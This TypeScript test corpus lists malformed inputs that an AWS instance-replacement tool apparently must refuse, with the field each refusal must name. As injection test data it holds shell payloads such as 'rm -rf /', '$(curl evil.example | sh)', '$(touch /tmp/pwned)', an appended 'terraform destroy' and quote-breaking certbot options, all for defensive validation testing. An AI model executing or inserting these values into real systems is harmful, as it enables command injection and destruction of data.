import { CreateTagsCommand, StopInstancesCommand } from '@aws-sdk/client-ec2';
import { PutParameterCommand } from '@aws-sdk/client-ssm';
import { clients } from '../../lambdas/shared/clients';
import { parameterNames, Tags } from '../../lambdas/shared/constants';
import type { Sandbox } from '../../sandbox';
import { SANDBOX_ENV } from '../../sandbox/demo';
import type { World, WorldOptions } from '../workflow/helpers';

/**
 * Malformed inputs Understudy must refuse before it changes anything, each through the entry point a
 * user or an attacker would reach: an execution input, a Replacement Requested event on the bus, an
 * agent event on the bus, the target configuration as deployed in SSM, and the config file itself.
 * `expectField` is the field the refusal must name, as the user writes it.
 */

export type CorpusKind =
  | 'execution input'
  | 'Replacement Requested event'
  | 'deployed target configuration'
  | 'agent event'
  | 'config file'
  | 'Terraform instance address';

export interface CorpusEntry {
  /** Completes "refuses <a kind> ..." into the test's name, e.g. "whose target is a number". */
  readonly name: string;
  readonly kind: CorpusKind;
  /**
   * Execution input / event detail (an object), an agent event ({ DetailType, Source?, Detail }), or a
   * whole config file. Fields `arrange` returns are merged over it.
   */
  readonly input: Record<string, unknown>;
  readonly expectField: string;
  /** Further text the refusal must contain. */
  readonly expectMessage?: string;
  /** How the account differs from a freshly deployed one (the workflow test harness's options). */
  readonly world?: WorldOptions;
  /** Changes the account before the run (what someone did outside Understudy); may add input fields. */
  readonly arrange?: (world: World) => Promise<Record<string, unknown> | undefined>;
}

type Draft = Omit<CorpusEntry, 'kind'>;
const ofKind = (kind: CorpusKind, drafts: readonly Draft[]): CorpusEntry[] =>
  drafts.map((draft) => ({ ...draft, kind }));

/** The concrete sandbox behind the harness's API: a few states (a deregistered AMI) have no API call. */
const ec2Model = (world: World) => (world.sandbox as unknown as Sandbox).ec2;

const arm64Image = async (world: World) => ({
  imageId: world.sandbox.registerImage({ cloudInit: 'done', app: 'healthy' }, { architecture: 'arm64' }),
});

/** DeregisterImage is not modelled; the image's record is marked as the API would leave it. */
const deregister = (world: World, imageId: string): void => {
  const image = ec2Model(world).images.get(imageId);
  if (!image) throw new Error(`no image ${imageId} in the sandbox`);
  image.state = 'deregistered';
};

/** DisassociateAddress is not modelled either: the address is left without an association. */
const disassociate = (world: World): void => {
  const address = ec2Model(world).addresses.get(world.seeded.allocationId);
  if (!address) throw new Error(`no address ${world.seeded.allocationId} in the sandbox`);
  address.instanceId = undefined;
  address.associationId = undefined;
};

/** The target's configuration parameter as someone with ssm:PutParameter left it, bypassing cdk deploy. */
const deployRaw = async (world: World, value: string) => {
  await clients().ssm.send(
    new PutParameterCommand({
      Name: parameterNames(SANDBOX_ENV.PARAMETER_PREFIX).target(world.target.name),
      Type: 'String',
      Value: value,
      Overwrite: true,
    }),
  );
  return undefined;
};
const deployChanged = (world: World, change: (target: Record<string, unknown>) => unknown) =>
  deployRaw(
    world,
    JSON.stringify(change(JSON.parse(JSON.stringify(world.target)) as Record<string, unknown>)),
  );

const GOLDEN_PARAMETER = '/golden/web/ami';
const fromParameter: WorldOptions = {
  target: (t) => ({ ...t, image: { ssmParameter: GOLDEN_PARAMETER } }),
};

const hostileTargets: readonly (readonly [string, string])[] = [
  ['a shell command separator', 'web;rm -rf /'],
  ['a command substitution', 'web$(id)'],
  ['backticks', 'web`reboot`'],
  ['a path traversal', '../../etc'],
  ['a slash into another S3 prefix', 'web/../locks/api'],
  ['a Cyrillic look-alike letter', 'w\u0435b'],
  ['a zero-width space', 'web\u200b'],
  ['fullwidth letters', '\uff57\uff45\uff42'],
  ['a trailing newline', 'web\n'],
  ['a single quote', "web'"],
  ['upper case', 'WEB'],
  ['a NUL byte', 'web\u0000'],
];

const executionInputs = ofKind('execution input', [
  { name: 'whose target is a number', input: { target: 42 }, expectField: 'input.target' },
  { name: 'without a target', input: { dryRun: true }, expectField: 'input.target' },
  { name: 'whose target is empty', input: { target: '' }, expectField: 'input.target' },
  {
    name: 'whose dryRun is the string "yes"',
    input: { target: 'web', dryRun: 'yes' },
    expectField: 'input.dryRun',
  },
  { name: 'whose imageId is a number', input: { target: 'web', imageId: 42 }, expectField: 'input.imageId' },
  {
    name: 'whose imageId is not an ami-… id',
    input: { target: 'web', imageId: 'ubuntu-24.04' },
    expectField: 'input.imageId',
  },
  {
    name: 'whose imageId carries a shell command',
    input: { target: 'web', imageId: 'ami-0123456789abcdef0; reboot' },
    expectField: 'input.imageId',
  },
  {
    name: 'for a target that is not configured',
    input: { target: 'shop' },
    expectField: 'input.target',
    expectMessage: 'unknown target shop',
  },
  {
    name: 'with an unknown field taskToken',
    input: { target: 'web', taskToken: 'AQB8AAAAKgAAAAMAAAAA' },
    expectField: 'taskToken',
  },
  { name: 'with an unknown field force', input: { target: 'web', force: true }, expectField: 'force' },
  {
    name: 'whose action is not one Understudy knows',
    input: { target: 'web', action: 'terminate' },
    expectField: 'input.action',
  },
  {
    name: 'whose action is rollback, which this version does not allow',
    input: { target: 'web', action: 'rollback' },
    expectField: 'input.action',
  },
  {
    name: 'whose reason is longer than 256 characters',
    input: { target: 'web', reason: 'r'.repeat(257) },
    expectField: 'input.reason',
  },
  {
    name: 'whose target name is 5,000 characters long',
    input: { target: 'w'.repeat(5_000) },
    expectField: 'input.target',
  },
  ...hostileTargets.map(
    ([what, target]): Draft => ({
      name: `whose target name carries ${what}`,
      input: { target },
      expectField: 'input.target',
    }),
  ),
  {
    name: 'whose AMI does not exist',
    input: { target: 'web', imageId: 'ami-0123456789abcdef0' },
    expectField: 'input.imageId',
    expectMessage: 'does not exist',
  },
  {
    name: 'whose AMI was deregistered',
    input: { target: 'web' },
    expectField: 'input.imageId',
    arrange: async (world) => {
      const imageId = world.sandbox.registerImage({ cloudInit: 'done', app: 'healthy' });
      deregister(world, imageId);
      return { imageId };
    },
  },
  {
    name: 'whose configured AMI (image.imageId) was deregistered',
    input: { target: 'web' },
    expectField: 'image.imageId',
    arrange: async (world) => {
      const configured = world.target.image.imageId;
      if (!configured) throw new Error('the harness configures image.imageId');
      deregister(world, configured);
      return undefined;
    },
  },
  {
    name: 'whose AMI is built for arm64 while the box is x86_64',
    input: { target: 'web' },
    expectField: 'input.imageId',
    expectMessage: 'built for arm64',
    arrange: arm64Image,
  },
  {
    name: 'whose image parameter (image.ssmParameter) holds a shell command instead of an AMI id',
    input: { target: 'web' },
    expectField: 'image.ssmParameter',
    world: fromParameter,
    arrange: async () => {
      await clients().ssm.send(
        new PutParameterCommand({
          Name: GOLDEN_PARAMETER,
          Type: 'String',
          Value: '$(curl evil.example | sh)',
        }),
      );
      return undefined;
    },
  },
  {
    name: 'whose image parameter (image.ssmParameter) does not exist',
    input: { target: 'web' },
    expectField: 'image.ssmParameter',
    world: fromParameter,
  },
  {
    name: 'whose Elastic IP is not associated with any instance',
    input: { target: 'web' },
    expectField: 'allocationId',
    expectMessage: 'EIP not associated',
    arrange: async (world) => {
      disassociate(world);
      return undefined;
    },
  },
  {
    name: 'whose Elastic IP is associated with a stopped box',
    input: { target: 'web' },
    expectField: 'allocationId',
    expectMessage: 'is stopped, not running',
    arrange: async (world) => {
      await clients().ec2.send(new StopInstancesCommand({ InstanceIds: [world.seeded.oldInstanceId] }));
      await world.sandbox.clock.sleep(300_000);
      return undefined;
    },
  },
  {
    name: "whose Elastic IP fronts another target's box",
    input: { target: 'web' },
    expectField: 'allocationId',
    expectMessage: 'belongs to another target',
    arrange: async (world) => {
      await clients().ec2.send(
        new CreateTagsCommand({
          Resources: [world.seeded.oldInstanceId],
          Tags: [{ Key: Tags.target, Value: 'api' }],
        }),
      );
      return undefined;
    },
  },
]);

const replacementRequests = ofKind('Replacement Requested event', [
  { name: 'without a target', input: {}, expectField: 'input.target' },
  {
    name: 'whose target name carries a command substitution',
    input: { target: 'web$(reboot)' },
    expectField: 'input.target',
  },
  {
    name: 'with an unknown field force',
    input: { target: 'web', force: true },
    expectField: 'force',
  },
  {
    name: 'with a task token smuggled into its detail',
    input: { target: 'web', taskToken: 'AQB8AAAAKgAAAAMAAAAA' },
    expectField: 'taskToken',
  },
  {
    name: 'whose dryRun is a string',
    input: { target: 'web', dryRun: 'false' },
    expectField: 'input.dryRun',
  },
  {
    name: 'whose imageId is a number',
    input: { target: 'web', imageId: 42 },
    expectField: 'input.imageId',
  },
]);

const deployedTargets = ofKind('deployed target configuration', [
  {
    name: 'whose domain carries a shell command',
    input: { target: 'web' },
    expectField: 'targets[web].domain',
    arrange: (world) => deployChanged(world, (t) => ({ ...t, domain: 'web.example.test;reboot' })),
  },
  {
    name: 'whose health.path carries a command substitution',
    input: { target: 'web' },
    expectField: 'targets[web].health.path',
    arrange: (world) =>
      deployChanged(world, (t) => ({
        ...t,
        health: { ...(t.health as object), path: '/$(touch /tmp/pwned)' },
      })),
  },
  {
    name: 'with a field the schema does not know',
    input: { target: 'web' },
    expectField: 'targets[web]',
    expectMessage: 'unknown field "userData"',
    arrange: (world) => deployChanged(world, (t) => ({ ...t, userData: '#!/bin/sh\nreboot' })),
  },
  {
    name: 'that is not JSON',
    input: { target: 'web' },
    expectField: 'input.target',
    expectMessage: 'is not JSON',
    arrange: (world) => deployRaw(world, '{"name": "web", '),
  },
]);

/** The instance whose readiness task is open in the agent-event tests. */
export const AWAITED_INSTANCE = 'i-0123456789abcdef0';

const agentEvent = (detailType: string, detail: Record<string, unknown>, source = 'understudy.agent') => ({
  Source: source,
  DetailType: detailType,
  Detail: detail,
});

const agentEvents = ofKind('agent event', [
  {
    name: 'whose instance id is too short',
    input: agentEvent('Instance Ready', { instanceId: 'i-123', status: 'done', exitCode: 0 }),
    expectField: 'event.detail.instanceId',
  },
  {
    name: 'whose instance id carries a shell command',
    input: agentEvent('Instance Ready', { instanceId: `${AWAITED_INSTANCE}; reboot`, exitCode: 0 }),
    expectField: 'event.detail.instanceId',
  },
  {
    name: 'whose instance id climbs out of the parameter path',
    input: agentEvent('Instance Ready', { instanceId: `../tokens/${AWAITED_INSTANCE}`, exitCode: 0 }),
    expectField: 'event.detail.instanceId',
  },
  {
    name: 'whose instance id is upper case',
    input: agentEvent('Instance Ready', { instanceId: AWAITED_INSTANCE.toUpperCase(), exitCode: 0 }),
    expectField: 'event.detail.instanceId',
  },
  {
    name: 'whose instance id is a number',
    input: agentEvent('Instance Failed', { instanceId: 123456789, exitCode: 1 }),
    expectField: 'event.detail.instanceId',
  },
  {
    name: 'without an instance id',
    input: agentEvent('Instance Ready', { status: 'done', exitCode: 0 }),
    expectField: 'event.detail.instanceId',
  },
  {
    name: 'whose exit code is a string',
    input: agentEvent('Instance Ready', { instanceId: AWAITED_INSTANCE, exitCode: '0' }),
    expectField: 'event.detail.exitCode',
  },
  {
    name: 'whose errors are not a list',
    input: agentEvent('Instance Failed', { instanceId: AWAITED_INSTANCE, exitCode: 1, errors: 'boom' }),
    expectField: 'event.detail.errors',
  },
  {
    name: 'with a detail-type the agent never sends',
    input: agentEvent('Instance Rebooted', { instanceId: AWAITED_INSTANCE, exitCode: 0 }),
    expectField: 'event.detail-type',
  },
  {
    name: 'from another source',
    input: agentEvent('Instance Ready', { instanceId: AWAITED_INSTANCE, exitCode: 0 }, 'understudy'),
    expectField: 'event.source',
  },
]);

/** A valid config file; every config entry changes one thing in it. */
export const baseTarget = (): Record<string, unknown> => ({
  name: 'web',
  allocationId: 'eipalloc-0123456789abcdef0',
  domain: 'www.example.com',
  image: { ssmParameter: '/golden/web/ami' },
  tls: { mode: 'http-01', email: 'ops@example.com' },
  health: { path: '/healthz', bodyContains: 'ok' },
  terraform: {
    state: 's3://acme-terraform-state/web/terraform.tfstate',
    instanceAddress: 'module.web.aws_instance.this',
  },
});
export const baseConfig = (): Record<string, unknown> => ({
  notifications: { emails: ['ops@example.com'] },
  targets: [baseTarget()],
});

const withTarget = (change: (target: Record<string, unknown>) => Record<string, unknown>) => ({
  ...baseConfig(),
  targets: [change(baseTarget())],
});
const set = (key: string, value: unknown) => withTarget((t) => ({ ...t, [key]: value }));
const within = (key: string, field: string, value: unknown) =>
  withTarget((t) => ({ ...t, [key]: { ...(t[key] as object), [field]: value } }));

const configFiles = ofKind('config file', [
  {
    name: 'with an unknown top-level field',
    input: { ...baseConfig(), force: true },
    expectField: '(root)',
    expectMessage: 'unknown field "force"',
  },
  {
    name: 'with an unknown target field',
    input: set('userData', '#!/bin/sh'),
    expectField: 'targets[0]',
    expectMessage: 'unknown field "userData"',
  },
  {
    name: 'whose allocationId is a number',
    input: set('allocationId', 5),
    expectField: 'targets[0].allocationId',
  },
  {
    name: 'whose health.expectStatus is a string',
    input: within('health', 'expectStatus', '200'),
    expectField: 'targets[0].health.expectStatus',
  },
  {
    name: 'whose terraform.useLockfile is the string "yes"',
    input: within('terraform', 'useLockfile', 'yes'),
    expectField: 'targets[0].terraform.useLockfile',
  },
  {
    name: 'whose target name carries a shell command',
    input: set('name', 'web;reboot'),
    expectField: 'targets[0].name',
  },
  {
    name: 'whose domain carries a shell command separator',
    input: set('domain', 'www.example.com; rm -rf /'),
    expectField: 'targets[0].domain',
  },
  {
    name: 'whose domain carries a command substitution',
    input: set('domain', '$(id).example.com'),
    expectField: 'targets[0].domain',
  },
  {
    name: 'whose domain carries quotes',
    input: set('domain', "www.example.com' -d 'evil.example"),
    expectField: 'targets[0].domain',
  },
  {
    name: 'whose domain ends in a newline',
    input: set('domain', 'www.example.com\n'),
    expectField: 'targets[0].domain',
  },
  {
    name: 'whose domain starts with a dash, like an option',
    input: set('domain', '-d.example.com'),
    expectField: 'targets[0].domain',
  },
  {
    name: 'whose domain is longer than 253 characters',
    input: set('domain', `${'a'.repeat(60)}.`.repeat(5).concat('com')),
    expectField: 'targets[0].domain',
  },
  {
    name: 'whose health.path carries spaces',
    input: within('health', 'path', '/health check'),
    expectField: 'targets[0].health.path',
  },
  {
    name: 'whose health.path carries quotes',
    input: within('health', 'path', `/healthz'"`),
    expectField: 'targets[0].health.path',
  },
  {
    name: 'whose health.path carries a command substitution',
    input: within('health', 'path', '/$(touch /tmp/pwned)'),
    expectField: 'targets[0].health.path',
  },
  {
    name: 'whose health.path carries curl URL globbing',
    input: within('health', 'path', '/health[1-9999]'),
    expectField: 'targets[0].health.path',
  },
  {
    name: 'whose health.path is not absolute',
    input: within('health', 'path', 'healthz'),
    expectField: 'targets[0].health.path',
  },
  {
    name: 'whose health.bodyContains spans two lines',
    input: within('health', 'bodyContains', 'ok\n'),
    expectField: 'targets[0].health.bodyContains',
  },
  {
    name: 'whose health.bodyContains carries a NUL byte',
    input: within('health', 'bodyContains', 'ok\u0000'),
    expectField: 'targets[0].health.bodyContains',
  },
  {
    name: 'whose health.bodyContains is longer than 256 characters',
    input: within('health', 'bodyContains', 'x'.repeat(257)),
    expectField: 'targets[0].health.bodyContains',
  },
  {
    name: 'whose tls.email carries quotes',
    input: within('tls', 'email', `"ops"@example.com`),
    expectField: 'targets[0].tls.email',
  },
  {
    name: 'whose tls.email closes its quote and adds an option',
    input: within('tls', 'email', "ops@example.com' --server 'https://evil.example"),
    expectField: 'targets[0].tls.email',
  },
  {
    name: "whose tls.email starts with a dash, which certbot's -m would read as an option",
    input: within('tls', 'email', '-oops@example.com'),
    expectField: 'targets[0].tls.email',
  },
  {
    name: 'whose tls.email is longer than an e-mail address can be',
    input: within('tls', 'email', `${'o'.repeat(65)}@example.com`),
    expectField: 'targets[0].tls.email',
  },
  {
    name: 'whose notification e-mail carries a command substitution',
    input: { ...baseConfig(), notifications: { emails: ['$(reboot)@example.com'] } },
    expectField: 'notifications.emails[0]',
  },
  {
    name: 'whose terraform.state key carries a command substitution',
    input: within('terraform', 'state', 's3://acme-terraform-state/$(id)/terraform.tfstate'),
    expectField: 'targets[0].terraform.state',
  },
  {
    name: 'whose terraform.state is longer than 1,100 characters',
    input: within('terraform', 'state', `s3://acme-terraform-state/${'k'.repeat(1_100)}`),
    expectField: 'targets[0].terraform.state',
  },
  {
    name: 'whose terraform.instanceAddress carries a shell command',
    input: within('terraform', 'instanceAddress', 'aws_instance.web; terraform destroy'),
    expectField: 'targets[0].terraform.instanceAddress',
  },
  {
    name: 'whose terraform.instanceAddress is longer than 512 characters',
    input: within('terraform', 'instanceAddress', `aws_instance.${'w'.repeat(520)}`),
    expectField: 'targets[0].terraform.instanceAddress',
  },
  {
    name: 'whose terraform.workspace climbs out of its prefix',
    input: within('terraform', 'workspace', '../prod'),
    expectField: 'targets[0].terraform.workspace',
  },
  {
    name: 'whose image.ssmParameter is not a parameter path',
    input: set('image', { ssmParameter: 'golden web ami' }),
    expectField: 'targets[0].image.ssmParameter',
  },
  {
    name: 'with two targets of the same name',
    input: { ...baseConfig(), targets: [baseTarget(), baseTarget()] },
    expectField: 'targets[1].name',
    expectMessage: 'duplicate target name',
  },
]);

const stateAddresses = ofKind('Terraform instance address', [
  {
    name: 'that the Terraform state does not hold',
    input: { target: 'web' },
    expectField: 'terraform.instanceAddress',
    expectMessage: 'module.web.aws_instance.blue',
    world: {
      target: (t) =>
        t.terraform
          ? { ...t, terraform: { ...t.terraform, instanceAddress: 'module.web.aws_instance.blue' } }
          : t,
    },
  },
]);

export const CORPUS: readonly CorpusEntry[] = [
  ...executionInputs,
  ...replacementRequests,
  ...deployedTargets,
  ...agentEvents,
  ...configFiles,
  ...stateAddresses,
];

export const entriesOf = (kind: CorpusKind): CorpusEntry[] => CORPUS.filter((entry) => entry.kind === kind);
